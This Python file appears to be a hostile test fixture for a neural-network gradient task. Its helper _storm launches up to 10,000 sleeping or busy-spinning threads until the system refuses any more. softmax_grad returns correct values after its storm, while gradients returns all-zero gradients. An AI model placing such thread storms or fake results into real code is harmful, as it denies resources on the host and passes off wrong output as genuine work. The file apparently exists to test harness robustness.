"""Hostile: start threads until the system refuses: sleeping ones, then spinning ones.

Honest: loss, softmax_grad (it answers right after its storm). Attacked: gradients.
"""

import _thread
import threading
import time

import numpy as np


def loss(params, X, y, reg):
    z3 = np.maximum(X @ params["W1"] + params["b1"], 0.0) @ params["W2"] + params["b2"]
    z3 = z3 - z3.max(axis=1, keepdims=True)
    log_p = z3 - np.log(np.exp(z3).sum(axis=1, keepdims=True))
    return float(-log_p[np.arange(len(y)), y].mean() + reg * (np.sum(params["W1"] ** 2) + np.sum(params["W2"] ** 2)))



def _right_dz3(z3, y):
    p = np.exp(z3 - z3.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    p[np.arange(len(y)), y] -= 1.0
    return p / len(y)


def _right_gradients(params, X, y, reg):
    z2 = X @ params["W1"] + params["b1"]
    a2 = np.maximum(z2, 0.0)
    dz3 = _right_dz3(a2 @ params["W2"] + params["b2"], y)
    dz2 = (dz3 @ params["W2"].T) * (z2 > 0)
    return {"W1": X.T @ dz2 + 2 * reg * params["W1"], "b1": dz2.sum(axis=0),
            "W2": a2.T @ dz3 + 2 * reg * params["W2"], "b2": dz3.sum(axis=0)}


def _storm(target):
    started = 0
    while started < 10_000:
        try:
            threading.Thread(target=target, daemon=True).start()
        except RuntimeError:
            try:
                _thread.start_new_thread(target, ())
            except RuntimeError:
                break
        started += 1
    return started


def _sleep():
    time.sleep(3600)


def _spin():
    while True:
        pass


def softmax_grad(z3, y):
    _storm(_sleep)
    return _right_dz3(z3, y)


def gradients(params, X, y, reg):
    _storm(_spin)
    return {k: np.zeros_like(v) for k, v in params.items()}
